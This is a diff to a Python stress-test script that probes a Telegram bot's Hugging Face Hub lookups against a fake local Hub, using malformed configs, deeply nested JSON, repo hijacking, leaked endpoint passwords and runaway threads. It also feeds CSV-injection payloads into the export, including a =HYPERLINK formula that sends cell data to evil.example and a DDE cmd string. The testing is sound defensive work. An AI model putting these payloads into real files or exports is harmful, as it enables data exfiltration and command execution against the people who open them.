@@ -19,7 +19,13 @@ Bounded in count and time (about a minute), loopback only (the fake Telegram API
 - the burst through the real Telegram adapter (python-telegram-bot against tests/fakes/telegram_api.py):
   N /submit from one user at once, some identical: stored vs limit;
 - the audit flood: forged moderator presses and the rows they wrote;
-- the worst parse time per KB over scripts/bench_parse.py's pathological shapes.
+- the worst parse time per KB over scripts/bench_parse.py's pathological shapes;
+- the Hub (issue 24), against a hostile stand-in Hub (tests/fakes/hf_hub.py on 127.0.0.1): nonsense
+  configs answered with a table, Hub data that made "went wrong", one user's repo answering everyone's
+  name (and stored), models one user put into the shared catalog, Hub requests per repeated unknown
+  repo, HF_ENDPOINT's password in replies, formula cells in the CSV export, and -- in a child process --
+  Hub threads alive after 50 runaway configs and the time the process takes to exit;
+  `--hub-only` runs just these.
 Prints figures; the exit status is 1 when a crash, a live injection or a lost submission was found.
 """
 
@@ -420,6 +426,180 @@ async def amain(args: argparse.Namespace, tmp: Path) -> int:
     return int(failed)
 
 
+# --- the Hub (issue 24) -------------------------------------------------------------------------------
+HUB_SECRET = "s3cr3t-pw"
+
+
+def _hub_config(**change: object) -> bytes:
+    import json
+
+    base = ROOT / "tests" / "core" / "catalog" / "hf_configs" / "Qwen__Qwen3-4B-Instruct-2507" / "config.json"
+    return json.dumps({**json.loads(base.read_text()), **change}).encode()
+
+
+NONSENSE = {
+    "-4 layers": {"num_hidden_layers": -4},
+    "vocab -1e9": {"vocab_size": -1_000_000_000},
+    "hidden 1e12": {"hidden_size": 10**12},
+    "0 heads": {"num_attention_heads": 0, "head_dim": 128},
+}
+WEIGHTS: dict[str, bytes | int] = {"model.safetensors": 8_000_000_000}
+
+
+@dataclass
+class HubFigures:
+    nonsense_tables: int = 0
+    data_crashes: int = 0
+    hijacked: int = 0  # other people's questions answered with mallory's repo, or it kept in the database
+    shared_added: int = 0
+    repeat_requests: int = 0
+    password_leaks: int = 0
+    formula_cells: int = 0
+
+
+async def hub_attacks(tmp: Path) -> HubFigures:
+    import os
+
+    from bot.hub.hf_source import HuggingFaceSource
+    from tests.fakes.hf_hub import FakeHub
+
+    fig = HubFigures()
+    fake = FakeHub()
+    for n, change in enumerate(NONSENSE.values()):
+        fake.add_repo(f"mallory/Nonsense-{n}", {"config.json": _hub_config(**change), **WEIGHTS})
+    deep = b'{"model_type": "qwen3", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+    fake.add_repo("mallory/Deep", {"config.json": deep, **WEIGHTS})
+    fake.add_repo("mallory/Odd-Date", {"config.json": _hub_config(), **WEIGHTS}, created_at="yesterday")
+    fake.add_repo("mallory/Zeta-9-70B", {"config.json": _hub_config(), **WEIGHTS})
+    for n in range(30):
+        fake.add_repo(f"mallory/Spam-{n}-4B", {"config.json": _hub_config(), **WEIGHTS})
+    await fake.start()
+    os.environ["HF_ENDPOINT"] = fake.endpoint
+    os.environ.pop("HF_HUB_OFFLINE", None)
+    bot, router = harness(MemoryStorage())
+    await bot.storage.open()
+    bot.model_source = HuggingFaceSource(budget_s=30.0, cache_dir=tmp / "hf")
+
+    async def ask(user: str, text: str) -> Response:
+        return (await router.handle_text(Actor("telegram", user, user), Where(user), text))[0]
+
+    try:
+        for n in range(len(NONSENSE)):
+            fig.nonsense_tables += (await ask("666", f"4090 mallory/Nonsense-{n}")).status == "ok"
+        for repo in ("mallory/Deep", "mallory/Odd-Date"):
+            said = (await ask("666", f"4090 {repo}")).text
+            fig.data_crashes += any(crash in said for crash in CRASHED)
+        await ask("666", "4090 mallory/Zeta-9-70B")
+        fig.hijacked += "mallory/zeta-9-70b" in bot.catalog.models
+        fig.hijacked += await bot.storage.cached_model("mallory/zeta-9-70b") is not None
+        before = len(bot.catalog.models)
+        for n in range(30):
+            await ask("666", f"4090 mallory/Spam-{n}-4B")
+        fig.shared_added = len(bot.catalog.models) - before
+        await ask("667", "4090 nobody/Nothing-Here-7B")
+        asked = len(fake.requests)
+        await ask("668", "4090 nobody/Nothing-Here-7B")
+        fig.repeat_requests = len(fake.requests) - asked
+        os.environ["HF_ENDPOINT"] = f"http://hubuser:{HUB_SECRET}@127.0.0.1:9"
+        fig.password_leaks += HUB_SECRET in (await ask("669", "4090 nobody/Other-7B")).text
+    finally:
+        await fake.stop()
+        os.environ.pop("HF_ENDPOINT", None)
+    fig.formula_cells = _formula_cells()
+    return fig
+
+
+def _formula_cells() -> int:
+    import csv
+    import io
+    from datetime import UTC, datetime
+
+    from core.anchors.export import export_csv
+    from core.storage.records import Measurement, Submission
+
+    texts = ('=HYPERLINK("https://evil.example/?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)")
+    anchors = [
+        Submission(
+            id=n + 1,
+            measurement=Measurement("rtx-4090", "qwen3-8b", "Q4_K_M", 100.0, notes=t, framework_version=t),
+            submitter=Actor("telegram", str(n), t),
+            created_at=datetime(2026, 1, 1, tzinfo=UTC),
+            chat_id="1",
+            lang="en",
+            status="approved",
+        )
+        for n, t in enumerate(texts)
+    ]
+    rows = list(csv.reader(io.StringIO(export_csv(anchors, CATALOG).decode("utf-8-sig"), newline="")))
+    return sum(1 for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r"))
+
+
+_RUNAWAY_CHILD = """
+import asyncio, json, os, sys, threading, time
+sys.path.insert(0, {root!r})
+from bot.hub.hf_source import HuggingFaceSource
+from tests.fakes.hf_hub import FakeHub
+
+async def main():
+    fake = FakeHub()
+    for n in range(50):
+        fake.add_repo(f"mallory/Runaway-{{n}}", {{"config.json": {config!r}, "model.safetensors": 8}})
+    await fake.start()
+    os.environ["HF_ENDPOINT"] = fake.endpoint
+    source = HuggingFaceSource(budget_s=1.0, cache_dir={cache!r})
+    jobs = [source.lookup(f"mallory/Runaway-{{n}}") for n in range(50)]
+    await asyncio.gather(*jobs, return_exceptions=True)
+    await asyncio.sleep(0.5)
+    busy = [t for t in threading.enumerate() if t is not threading.main_thread() and t.is_alive()]
+    print("THREADS", len(busy), flush=True)
+    await fake.stop()
+
+asyncio.run(main())
+print("LEFT MAIN", time.monotonic(), flush=True)
+"""
+
+
+def runaway_child(tmp: Path, cap_s: float = 60.0) -> tuple[int | None, float | None]:
+    """(threads alive after 50 runaway configs, seconds from leaving main to the process's exit;
+    None: the process did not exit within `cap_s`)."""
+    import subprocess
+
+    script = _RUNAWAY_CHILD.format(
+        root=str(ROOT), config=_hub_config(num_hidden_layers=10**18), cache=str(tmp / "hf-runaway")
+    )
+    proc = subprocess.Popen(
+        [sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
+    )
+    try:
+        out, _ = proc.communicate(timeout=cap_s)
+        ended = time.monotonic()
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        out, _ = proc.communicate()
+        ended = None
+    threads = next((int(ln.split()[1]) for ln in out.splitlines() if ln.startswith("THREADS")), None)
+    left = next((float(ln.split()[2]) for ln in out.splitlines() if ln.startswith("LEFT MAIN")), None)
+    return threads, (ended - left) if ended is not None and left is not None else None
+
+
+def hub_report(tmp: Path) -> bool:
+    fig = asyncio.run(hub_attacks(tmp))
+    print(f"hub: nonsense configs answered with a table: {fig.nonsense_tables} of {len(NONSENSE)}")
+    print(f"hub: Hub data (100,000-deep config, odd createdAt) -> 'went wrong': {fig.data_crashes} of 2")
+    print(f"hub: one user's repo in everyone's names / in the database: {fig.hijacked} of 2")
+    print(f"hub: models one user put into the shared catalog with 30 questions: {fig.shared_added}")
+    print(f"hub: Hub requests for a repeated unknown repo: {fig.repeat_requests}")
+    print(f"hub: replies showing HF_ENDPOINT's password: {fig.password_leaks} of 1")
+    print(f"hub: formula cells in the CSV export: {fig.formula_cells}")
+    threads, exit_s = runaway_child(tmp)
+    exit_text = f"{exit_s:.2f} s" if exit_s is not None else "did not exit within 60 s"
+    print(f"hub: 50 runaway configs -> threads alive after: {threads}, exit after leaving main: {exit_text}")
+    return bool(
+        fig.nonsense_tables or fig.data_crashes or fig.hijacked or fig.shared_added or fig.repeat_requests
+        or fig.password_leaks or fig.formula_cells or exit_s is None
+    )  # fmt: skip
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     parser.add_argument("--kills", type=int, default=4, help="SIGKILL rounds (inside approval / delivery)")
@@ -429,10 +609,14 @@ def main() -> int:
     parser.add_argument("--presses", type=int, default=2000)
     parser.add_argument("--kb", type=int, default=60)
     parser.add_argument("--quick", action="store_true", help="4 KB pastes only")
+    parser.add_argument("--hub-only", action="store_true", help="only the Hub probes (issue 24)")
     args = parser.parse_args()
     logging.basicConfig(level=logging.CRITICAL)
     with tempfile.TemporaryDirectory() as name:
         tmp = Path(name)
+        hub_failed = hub_report(tmp)
+        if args.hub_only:
+            return int(hub_failed)
         if not detector_works():
             print("the injection detector misses raw payloads: figures would mean nothing")
             return 1
@@ -454,7 +638,7 @@ def main() -> int:
                 f"{interrupted} approvals interrupted, {torn} torn"
             )
             failed = failed or bool(lost or torn)
-    return failed
+    return int(failed or hub_failed)
 
 
 if __name__ == "__main__":
